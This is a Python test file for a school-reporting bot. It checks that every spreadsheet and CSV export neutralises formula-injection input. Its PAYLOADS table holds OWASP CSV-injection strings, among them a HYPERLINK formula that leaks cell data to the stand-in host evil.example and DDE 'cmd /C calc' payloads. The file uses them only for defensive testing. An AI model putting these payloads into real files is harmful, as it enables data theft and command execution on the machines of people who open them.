"""Formulas typed by a head (or stored in a name) never run in a file svodka writes.

Each OWASP CSV-injection prefix goes through each writer — the weekly export (XLSX, CSV,
`svodka export`), the request workbook, the e-mailed weekly workbook, the template sent to
heads, the invite list — and the file is opened with openpyxl or the csv module: no cell is
a formula, the text is still there to read, numbers are still numbers.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Iterable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from bot.cli import main
from bot.clock import FakeClock
from bot.domain.questionnaire import parse_questionnaire
from bot.domain.spreadsheet_safety import looks_like_formula
from bot.domain.weeks import IsoWeek
from bot.domain.xlsx_template import build_template
from bot.emulator import Emulator
from bot.resources import default_questionnaire
from bot.services.checkin.answers import submit
from bot.services.reports import export
from bot.services.requests.export import round_workbook
from bot.services.rounds import round_for_week
from storage.db import Database, open_database
from storage.migrate import upgrade
from storage.models import District, School, SchoolStaff
from tests.integration.checkin.helpers import FORM, HEAD_VK, STORED, one_head
from tests.integration.requests.helpers import Seeded, friday_letters, new_request, seed
from tests.utils import report_factories as f
from tests.utils.harness import running_bot

# The OWASP list (https://owasp.org/www-community/attacks/CSV_Injection) and the full-width
# equals sign that Excel also takes for a formula.
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "fullwidth": "＝1+2",
}
HOSTILE = list(PAYLOADS.values())


def xlsx_cells(data: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_inert(data: bytes, expected: Iterable[str]) -> list[Any]:
    """No formula anywhere; each expected text is a text cell, exactly as typed (XML reads a
    lone carriage return as a line feed), marked so that editing it in Excel keeps it text."""
    cells = xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if c.data_type == "s"}
    for text in expected:
        cell = texts.get(text.replace("\r", "\n"))
        assert cell is not None, f"{text!r} is missing"
        assert cell.quotePrefix
    return cells


def csv_rows(data: bytes, delimiter: str = ";") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_csv_inert(data: bytes, expected: Iterable[str], delimiter: str = ";") -> None:
    """No cell a spreadsheet would run; each expected text is there behind an apostrophe."""
    cells = [cell for row in csv_rows(data, delimiter) for cell in row]
    assert [c for c in cells if looks_like_formula(c)] == []
    for text in expected:
        assert "'" + text in cells, f"{text!r} is missing"


def _export_table() -> export.ExportTable:
    """One school per payload, named with it, with it as the comment and the messengers."""
    qn = default_questionnaire()
    rows = [
        {
            "week": "2024-W43",
            "school": payload,
            "state": "ответила",
            **STORED,
            "foreign_messengers": True,
            "foreign_messengers_which": payload,
            "comment": payload,
            "students_active_pct": 0.5,
        }
        for payload in HOSTILE
    ]
    return export.ExportTable(qn, rows, [])


def test_weekly_export_xlsx_keeps_every_prefix_as_text() -> None:
    cells = assert_xlsx_inert(export.to_xlsx(_export_table()), HOSTILE)
    # Numbers stay numbers: the counts and the share are summable cells.
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers.count(STORED["students_total"]) == len(HOSTILE)
    assert numbers.count(0.5) == len(HOSTILE)


def test_weekly_export_csv_keeps_every_prefix_as_text() -> None:
    data = export.to_csv(_export_table())
    assert_csv_inert(data, HOSTILE)
    header, *rows = csv_rows(data)
    for row in rows:
        assert row[header.index("Обучающихся всего")] == str(STORED["students_total"])
        assert row[header.index("Обучающихся, активных в Сферуме, %")] == "50"


def _hostile_questionnaire() -> str:
    """Every label a payload (TOML escapes as JSON's): an admin's upload is text too."""
    labels = [json.dumps(p, ensure_ascii=False) for p in HOSTILE]
    columns = "".join(
        f'[[questions.columns]]\nkey = "c{n}"\nlabel = {label}\n' for n, label in enumerate(labels)
    )
    return (
        'id = "hostile"\nversion = 1\ntitle = "Таблица"\n'
        f'[[questions]]\nkey = "rows"\nlabel = "Строки"\ntype = "file"\n{columns}'
    )


def test_template_sent_to_heads_keeps_labels_as_text() -> None:
    question = parse_questionnaire(_hostile_questionnaire(), "hostile.toml").questions[0]
    assert_xlsx_inert(build_template(question), HOSTILE)


async def _head_of(session: AsyncSession, school_id: int) -> int:
    staff = await session.scalar(select(SchoolStaff).where(SchoolStaff.school_id == school_id))
    assert staff is not None
    return staff.person_id


async def test_request_workbook_keeps_every_prefix_as_text(db: Database, clock: FakeClock) -> None:
    seeded = await seed(db, Emulator(token="t", group_id=1), clock.now())
    created = await new_request(
        db, clock, seeded, deadline=datetime(2024, 10, 24, 15, tzinfo=UTC), title="Чаты"
    )
    async with db.sessions.begin() as session:
        for payload, school_id in zip(HOSTILE, seeded.school_ids, strict=False):
            await session.execute(update(School).where(School.id == school_id).values(name=payload))
            row = {"class_name": payload, "teacher": payload, "chat_created": True}
            await submit(
                session=session,
                round_id=created.round_id,
                school_id=school_id,
                author_person_id=await _head_of(session, school_id),
                answers={"class_chats": [{**row, "students_in_chat": 20}]},
                now=clock.now(),
            )
    async with db.reads() as session:
        book = await round_workbook(session=session, round_id=created.round_id)
    cells = assert_xlsx_inert(book.data, HOSTILE)
    assert [c.value for c in cells if c.data_type == "n"].count(20) == len(HOSTILE)


async def test_emailed_weekly_workbook_keeps_every_prefix_as_text(
    db: Database, clock: FakeClock
) -> None:
    async def answer(seeded: Seeded) -> None:
        await _weekly_answers(db, clock, seeded.district_id, seeded.school_ids)

    [letter] = await friday_letters(db, clock, answer)
    [attachment] = list(letter.iter_attachments())
    assert_xlsx_inert(attachment.get_content(), HOSTILE)


async def _weekly_answers(
    db: Database, clock: FakeClock, district_id: int, school_ids: list[int]
) -> None:
    async with db.sessions.begin() as session:
        district = await session.get(District, district_id)
        assert district is not None
        round_ = await round_for_week(session, district, IsoWeek(2024, 43), clock.now())
        assert round_ is not None
        for payload, school_id in zip(HOSTILE, school_ids, strict=False):
            await submit(
                session=session,
                round_id=round_.id,
                school_id=school_id,
                author_person_id=await _head_of(session, school_id),
                answers={**STORED, "comment": payload},
                now=clock.now(),
            )


async def test_a_formula_typed_by_a_head_is_text_in_the_officials_export(
    db: Database, clock: FakeClock
) -> None:
    """The attack end to end: the head types it in the comment; the official exports."""
    setup = await one_head(db, clock)
    official = 500
    async with db.sessions.begin() as session:
        district = await session.get(District, setup.district.id)
        assert district is not None
        await f.official(session, district=district, vk_id=official, now=clock.now())
    comment = PAYLOADS["equals"]
    form = FORM.replace("Комментарий: всё хорошо", f"Комментарий: {comment}")
    async with running_bot(db, clock) as bot:
        bot.user(HEAD_VK)
        bot.user(official)
        await bot.say(HEAD_VK, form)
        await bot.press(HEAD_VK, {"c": "send"})
        [xlsx] = await bot.say(official, "/export xlsx")
        [csv_doc] = await bot.say(official, "/export csv")
        xlsx_data = bot.emulator.file_bytes(xlsx["attachments"][0])
        csv_data = bot.emulator.file_bytes(csv_doc["attachments"][0])
    assert_xlsx_inert(xlsx_data, [comment])
    assert_csv_inert(csv_data, [comment])


CLI_DISTRICT = "Сергокалинский район"


@pytest.fixture
def cli_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Schools named with the payloads (stored before names were checked, or edited since),
    each with the payload as its comment of week 2024-W43."""
    monkeypatch.chdir(tmp_path)
    url = f"sqlite+aiosqlite:///{tmp_path}/cli.db"
    monkeypatch.setenv("DATABASE_URL", url)
    asyncio.run(_seed_cli(url))
    return tmp_path


async def _seed_cli(url: str) -> None:
    now = datetime(2024, 10, 24, 10, tzinfo=UTC)
    db = open_database(url)
    try:
        await upgrade(db.engine)
        async with db.sessions.begin() as s:
            district, schools = await f.district_with_schools(
                s, name=CLI_DISTRICT, schools=HOSTILE, now=now
            )
            for school, payload in zip(schools, HOSTILE, strict=True):
                await f.answer(
                    s,
                    district=district,
                    school=school,
                    week=IsoWeek(2024, 43),
                    values={**f.FULL_ANSWERS, "comment": payload},
                    now=now,
                )
    finally:
        await db.dispose()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_svodka_export_keeps_every_prefix_as_text(cli_database: Path, fmt: str) -> None:
    out = cli_database / f"out.{fmt}"
    args = ["export", "--district", CLI_DISTRICT, "--weeks", "520", "--format", fmt, "-o"]
    assert main([*args, str(out)]) == 0
    if fmt == "xlsx":
        assert_xlsx_inert(out.read_bytes(), HOSTILE)
    else:
        assert_csv_inert(out.read_bytes(), HOSTILE)


def test_invite_list_keeps_school_names_as_text(
    cli_database: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["invites", "--district", CLI_DISTRICT, "--format", "csv"]) == 0
    data = capsys.readouterr().out.encode()
    assert_csv_inert(data, HOSTILE, delimiter=",")
    assert csv_rows(data, ",")[0] == ["school", "code", "link"]
    for name in ("invites.csv", "invites.xlsx"):
        assert main(["invites", "--district", CLI_DISTRICT, "-o", name]) == 0
    assert_csv_inert((cli_database / "invites.csv").read_bytes(), HOSTILE)
    assert_xlsx_inert((cli_database / "invites.xlsx").read_bytes(), HOSTILE)
